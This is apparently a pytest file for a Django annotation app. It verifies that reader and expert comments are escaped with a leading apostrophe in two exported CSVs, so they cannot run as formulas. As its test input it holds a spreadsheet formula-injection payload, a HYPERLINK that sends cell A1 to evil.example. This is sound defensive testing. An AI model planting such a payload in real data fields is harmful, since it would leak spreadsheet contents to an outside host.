"""Reviews and reader-feedback CSVs: text a reader or expert typed cannot run as a formula."""

import csv
import io

import pytest
from django.urls import reverse

from annotation.reviews import review_submit
from annotation.services import answer_submit

pytestmark = pytest.mark.django_db
RATINGS = {
    "clinical_quality": 2,
    "explanation_clarity": 3,
    "factual_correctness": 4,
    "image_alignment": 1,
}
PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_comments_are_neutralised_in_both_csvs(client, pi, study, reader, expert):
    item = study.items.first()
    answer_submit(reader=reader, item=item, choice="B", comment=PLANTED, time_ms=100)
    review_submit(
        expert=expert,
        item=item,
        flags=[],
        ratings=RATINGS,
        difficulty="hard",
        decision="reject",
        comment="@SUM(1+1)",
    )
    client.force_login(pi)
    feedback = client.get(reverse("pi-feedback-csv", args=[study.slug])).content.decode()
    reviews = client.get(reverse("pi-reviews-csv", args=[study.slug])).content.decode()
    feedback_row = next(csv.DictReader(io.StringIO(feedback)))
    review_row = next(csv.DictReader(io.StringIO(reviews)))
    assert feedback_row["comment"] == "'" + PLANTED
    assert review_row["comment"] == "'@SUM(1+1)"
    assert feedback_row["time_ms"] == "100"  # numbers untouched
